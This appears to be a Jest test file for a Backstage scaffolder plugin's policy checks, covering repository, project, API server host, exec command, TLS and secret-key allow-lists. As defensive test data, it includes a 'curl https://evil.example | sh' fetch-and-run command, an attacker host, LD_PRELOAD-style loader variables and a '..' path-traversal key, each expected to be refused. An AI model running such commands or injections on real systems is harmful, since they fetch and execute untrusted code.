import { ConfigReader } from '@backstage/config';
import { NotAllowedError } from '@backstage/errors';
import { JsonObject } from '@backstage/types';
import {
  hubInput,
  publishInput,
  publishTopology,
} from '../__testUtils__/publishFixtures';
import { spokeSpec } from '../__testUtils__/spokeSpec';
import { PublishSpec, SpokeSpec } from '../manifests';
import { resolvePublish } from '../publish/resolve';
import { validatePublishInput } from '../publish/validate';
import {
  checkExecAllowed,
  checkOnboardPolicy,
  checkProjectAllowed,
  checkPublishPolicy,
  checkRemoteRefKey,
  checkRepoAllowed,
  checkServerHostAllowed,
  checkTlsForMode,
} from './checks';
import { readScaffolderPolicies } from './readPolicy';

const HUB = 'aks-mgmt-hub';

const policies = (scaffolder: JsonObject = {}, own?: JsonObject) =>
  readScaffolderPolicies(
    new ConfigReader({
      hubSpoke: {
        scaffolder,
        hubs: [
          {
            name: HUB,
            argocd: { url: 'https://a', token: 't' },
            ...(own ? { scaffolder: own } : {}),
          },
          { name: 'eks-mgmt-hub', argocd: { url: 'https://b', token: 't' } },
        ],
      },
    }),
  );
const policy = (scaffolder: JsonObject = {}, own?: JsonObject) =>
  policies(scaffolder, own).forHub(HUB);

/** The NotAllowedError message of `fn`, failing when it does not throw one. */
function refusal(fn: () => void): string {
  try {
    fn();
  } catch (e) {
    expect(e).toBeInstanceOf(NotAllowedError);
    return (e as Error).message;
  }
  throw new Error('expected a NotAllowedError');
}

const ALLOWED = {
  sourceRepos: ['https://github.com/example/*'],
  gitopsRepos: ['https://github.com/example/fleet'],
  projects: ['default', 'platform'],
  serverHosts: ['*.example.com'],
};

describe('repositories', () => {
  it('allows a URL matching a pattern; refuses another, naming the input, the list and the key', () => {
    const p = policy(ALLOWED);
    expect(() =>
      checkRepoAllowed(
        'source.repoURL',
        'https://github.com/example/shop.git',
        p,
        'sourceRepos',
      ),
    ).not.toThrow();
    expect(
      refusal(() =>
        checkRepoAllowed(
          'source.repoURL',
          'https://evil.example/x',
          p,
          'sourceRepos',
        ),
      ),
    ).toBe(
      'source.repoURL https://evil.example/x is not allowed by the platform on hub aks-mgmt-hub: ' +
        'hubSpoke.scaffolder.sourceRepos lists https://github.com/example/*. Use a repository that matches, or ask a ' +
        'platform admin to add it to hubSpoke.scaffolder.sourceRepos',
    );
  });

  it('refuses every repository by default, saying the list is empty by default', () => {
    expect(
      refusal(() =>
        checkRepoAllowed(
          'gitops.repoURL',
          'https://github.com/example/fleet',
          policy(),
          'gitopsRepos',
        ),
      ),
    ).toMatch(/hubSpoke\.scaffolder\.gitopsRepos lists none \(the default\)/);
  });
});

describe('projects', () => {
  it('unset: any project but default', () => {
    expect(() =>
      checkProjectAllowed('project', 'team-a', policy()),
    ).not.toThrow();
    expect(
      refusal(() => checkProjectAllowed('project', 'default', policy())),
    ).toBe(
      "project default is not allowed by the platform on hub aks-mgmt-hub: Argo CD's default project lets an " +
        'Application deploy anything anywhere, so it is refused unless hubSpoke.scaffolder.projects lists it. Set ' +
        "project to your team's Argo CD project",
    );
  });

  it("listed: only those, default included when listed; a hub's own list names its key", () => {
    const p = policy({ projects: ['team-a'] }, { projects: ['default'] });
    expect(() => checkProjectAllowed('project', 'default', p)).not.toThrow();
    expect(refusal(() => checkProjectAllowed('project', 'team-a', p))).toMatch(
      /^project team-a is not allowed by the platform on hub aks-mgmt-hub: hubSpoke\.hubs\[0\]\.scaffolder\.projects lists default\./,
    );
  });
});

describe('spoke API server hosts', () => {
  it('allows a listed host, wildcard or CIDR; refuses others, saying why it matters', () => {
    const p = policy({ serverHosts: ['*.azmk8s.io', '10.0.0.0/8'] });
    expect(() =>
      checkServerHostAllowed(
        'https://aks-1-dns-4f2a.hcp.westeurope.azmk8s.io',
        p,
      ),
    ).not.toThrow();
    expect(() =>
      checkServerHostAllowed('https://10.1.2.3:6443', p),
    ).not.toThrow();
    expect(
      refusal(() => checkServerHostAllowed('https://attacker.example.net', p)),
    ).toBe(
      'server host attacker.example.net is not allowed by the platform on hub aks-mgmt-hub: ' +
        'hubSpoke.scaffolder.serverHosts lists *.azmk8s.io, 10.0.0.0/8. Argo CD sends the credential it obtains for ' +
        "the spoke to this host: give the spoke's own API server, or ask a platform admin to add its host to " +
        'hubSpoke.scaffolder.serverHosts',
    );
    expect(
      refusal(() =>
        checkServerHostAllowed('https://aks.example.com', policy()),
      ),
    ).toMatch(/serverHosts lists none \(the default\)/);
  });
});

describe('exec', () => {
  const exec = (command: string, args: string[], env = {}) =>
    ({ type: 'exec', command, args, env, apiVersion: 'v1' } as const);

  it('allows the default argocd-k8s-auth forms in pull-request mode', () => {
    for (const args of [
      ['azure'],
      ['gcp'],
      ['aws', '--cluster-name', 'eks-1', '--role-arn', 'arn:aws:iam::1:role/r'],
    ]) {
      expect(() =>
        checkExecAllowed(
          exec('argocd-k8s-auth', args),
          'pull-request',
          policy(),
        ),
      ).not.toThrow();
    }
  });

  it('refuses any other command or argument list, listing the allowed forms', () => {
    expect(
      refusal(() =>
        checkExecAllowed(
          exec('sh', ['-c', 'curl https://evil.example | sh']),
          'pull-request',
          policy(),
        ),
      ),
    ).toBe(
      'auth command "sh -c curl https://evil.example | sh" is not allowed by the platform on hub aks-mgmt-hub: ' +
        'hubSpoke.scaffolder.exec.commands allows "argocd-k8s-auth azure", "argocd-k8s-auth aws --cluster-name * ' +
        '--role-arn *", "argocd-k8s-auth gcp" (the default). Argo CD runs the command inside the pods that hold every ' +
        'cluster credential: use an allowed form (auth types azure and aws write them for you), or ask a platform ' +
        'admin to add yours',
    );
    expect(
      refusal(() =>
        checkExecAllowed(
          exec('argocd-k8s-auth', ['gcp', '--extra']),
          'pull-request',
          policy(),
        ),
      ),
    ).toMatch(/^auth command "argocd-k8s-auth gcp --extra" is not allowed/);
  });

  it('refuses an environment that changes which program runs', () => {
    for (const name of ['PATH', 'LD_PRELOAD', 'DYLD_INSERT_LIBRARIES']) {
      expect(
        refusal(() =>
          checkExecAllowed(
            exec('argocd-k8s-auth', ['gcp'], { [name]: '/tmp' }),
            'pull-request',
            policy(),
          ),
        ),
      ).toBe(
        `auth.env ${name} is not allowed by the platform: it changes which program Argo CD runs or what it loads. Remove it`,
      );
    }
  });

  it('refuses exec in apply mode unless the hub allows it', () => {
    const gcp = exec('argocd-k8s-auth', ['gcp']);
    expect(refusal(() => checkExecAllowed(gcp, 'apply', policy()))).toBe(
      'auth type exec in mode apply is not allowed by the platform on hub aks-mgmt-hub: ' +
        'hubSpoke.scaffolder.exec.allowInApplyMode is false (the default). Apply mode would have Argo CD run the ' +
        'command at once, with no review: use mode pull-request',
    );
    expect(() =>
      checkExecAllowed(
        gcp,
        'apply',
        policy({}, { exec: { allowInApplyMode: true } }),
      ),
    ).not.toThrow();
  });
});

describe('TLS and secret-store keys', () => {
  it('refuses tls.insecure in apply mode only', () => {
    expect(() =>
      checkTlsForMode({ insecure: true }, 'pull-request'),
    ).not.toThrow();
    expect(() => checkTlsForMode({ caData: 'x' }, 'apply')).not.toThrow();
    expect(refusal(() => checkTlsForMode({ insecure: true }, 'apply'))).toBe(
      "tls.insecure in mode apply is not allowed by the platform: Argo CD would send the spoke's credential to a " +
        'server it cannot verify, with no review. Give tls.caData (the cluster CA), or use mode pull-request',
    );
  });

  it('requires the remoteRef key prefix and no .. segment', () => {
    expect(() => checkRemoteRefKey('hub-spoke/aks-1', policy())).not.toThrow();
    expect(refusal(() => checkRemoteRefKey('prod/db-password', policy()))).toBe(
      'auth.remoteRef.key prod/db-password is not allowed by the platform on hub aks-mgmt-hub: keys must start ' +
        'with "hub-spoke/" (hubSpoke.scaffolder.remoteRefKeyPrefix, the default) and hold no ".." segment, so that ' +
        "the hub's ExternalSecret reads only the secrets kept for spokes. Keep the token under that prefix in the store",
    );
    expect(
      refusal(() => checkRemoteRefKey('hub-spoke/../prod/db', policy())),
    ).toMatch(/hold no "\.\." segment/);
    expect(() =>
      checkRemoteRefKey(
        'clusters/aks-1',
        policy({ remoteRefKeyPrefix: 'clusters/' }),
      ),
    ).not.toThrow();
  });
});

describe('checkOnboardPolicy', () => {
  const onboard = (overrides: Partial<SpokeSpec>) =>
    spokeSpec({ project: 'platform', ...overrides });

  it('passes a spoke within the policy', () => {
    expect(() =>
      checkOnboardPolicy(onboard({}), 'pull-request', policy(ALLOWED)),
    ).not.toThrow();
  });

  it.each<[string, Partial<SpokeSpec>, 'pull-request' | 'apply', RegExp]>([
    [
      'a server host not listed',
      { server: 'https://k8s.evil.example' },
      'pull-request',
      /^server host k8s\.evil\.example is not allowed/,
    ],
    [
      'an exec command not allowed',
      {
        auth: {
          type: 'exec',
          command: 'bash',
          args: [],
          env: {},
          apiVersion: 'v1',
        },
      },
      'pull-request',
      /^auth command "bash" is not allowed/,
    ],
    [
      'tls.insecure in apply mode',
      { tls: { insecure: true } },
      'apply',
      /^tls\.insecure in mode apply/,
    ],
    [
      'a gitops repository not listed',
      {
        gitops: {
          repoURL: 'https://github.com/example/other',
          path: 'x',
          targetRevision: 'main',
        },
      },
      'pull-request',
      /^gitops\.repoURL https:\/\/github\.com\/example\/other is not allowed/,
    ],
    [
      'a project not listed (it lands in the ingress Application)',
      { project: 'team-b' },
      'pull-request',
      /^project team-b is not allowed/,
    ],
    [
      'a secret-store key outside the prefix',
      {
        auth: {
          type: 'bearerToken',
          secretStore: { kind: 'ClusterSecretStore', name: 'vault' },
          remoteRef: { key: 'prod/db' },
        },
      },
      'pull-request',
      /^auth\.remoteRef\.key prod\/db is not allowed/,
    ],
  ])('refuses %s', (_, overrides, mode, message) => {
    expect(
      refusal(() =>
        checkOnboardPolicy(onboard(overrides), mode, policy(ALLOWED)),
      ),
    ).toMatch(message);
  });

  it('does not judge the project when nothing uses it (no ingress, no add-on)', () => {
    expect(() =>
      checkOnboardPolicy(
        onboard({
          project: 'default',
          ingressDomain: undefined,
          gitops: undefined,
          addons: [],
        }),
        'pull-request',
        policy({ ...ALLOWED, projects: ['platform'] }),
      ),
    ).not.toThrow();
  });
});

describe('checkPublishPolicy', () => {
  const spec = (input: JsonObject): PublishSpec =>
    resolvePublish(validatePublishInput(input), publishTopology());
  const allowed = {
    ...ALLOWED,
    gitopsRepos: ['https://github.com/example/*'],
  };

  it('passes a publish within the policy of every target hub', () => {
    expect(() =>
      checkPublishPolicy(spec(publishInput()), policies(allowed)),
    ).not.toThrow();
  });

  it('refuses a source or gitops repository, or a project, that the hub of a target does not allow', () => {
    const { projects: _, ...anyProject } = allowed;
    expect(
      refusal(() =>
        checkPublishPolicy(
          spec(
            publishInput({
              source: { repoURL: 'https://evil.example/x', path: '.' },
            }),
          ),
          policies(allowed),
        ),
      ),
    ).toMatch(
      /^source\.repoURL https:\/\/evil\.example\/x is not allowed by the platform on hub aks-mgmt-hub: hubSpoke\.scaffolder\.sourceRepos lists https:\/\/github\.com\/example\/\*/,
    );
    expect(
      refusal(() =>
        checkPublishPolicy(
          spec(
            publishInput({ gitops: { repoURL: 'https://github.com/other/x' } }),
          ),
          policies(allowed),
        ),
      ),
    ).toMatch(
      /^gitops\.repoURL https:\/\/github\.com\/other\/x is not allowed/,
    );
    expect(
      refusal(() =>
        checkPublishPolicy(spec(publishInput()), policies(anyProject)),
      ),
    ).toMatch(/^project default is not allowed/);
    // The hub's own list applies to its targets only.
    expect(
      refusal(() =>
        checkPublishPolicy(
          spec(publishInput()),
          policies(allowed, { sourceRepos: ['https://github.com/platform/*'] }),
        ),
      ),
    ).toMatch(
      /hubSpoke\.hubs\[0\]\.scaffolder\.sourceRepos lists https:\/\/github\.com\/platform\/\*/,
    );
  });

  it('refuses exposure hub unless the hub allows itself as a destination', () => {
    expect(
      refusal(() => checkPublishPolicy(spec(hubInput()), policies(allowed))),
    ).toBe(
      'exposure hub deploys to hub aks-mgmt-hub itself, which is not allowed by the platform: ' +
        'hubSpoke.scaffolder.allowHubDestination is false (the default). Use exposure spoke, or ask a platform ' +
        'admin to allow the hub as a destination',
    );
  });

  it("refuses a hub host outside the hub's gateway domains, whatever allowAnyDomain says", () => {
    const own = {
      allowHubDestination: true,
      hubGatewayDomains: ['eu.example.com'],
    };
    expect(() =>
      checkPublishPolicy(spec(hubInput()), policies(allowed, own)),
    ).not.toThrow();
    expect(
      refusal(() =>
        checkPublishPolicy(
          spec(
            hubInput({ host: 'login.bank.example.org', allowAnyDomain: true }),
          ),
          policies(allowed, own),
        ),
      ),
    ).toBe(
      'host login.bank.example.org is not allowed on the gateway of hub aks-mgmt-hub: ' +
        'hubSpoke.hubs[0].scaffolder.hubGatewayDomains lists eu.example.com. Use a host under one of them ' +
        "(allowAnyDomain does not apply to the hub's gateway), or ask a platform admin to add the domain to " +
        'hubSpoke.hubs[0].scaffolder.hubGatewayDomains',
    );
  });
});
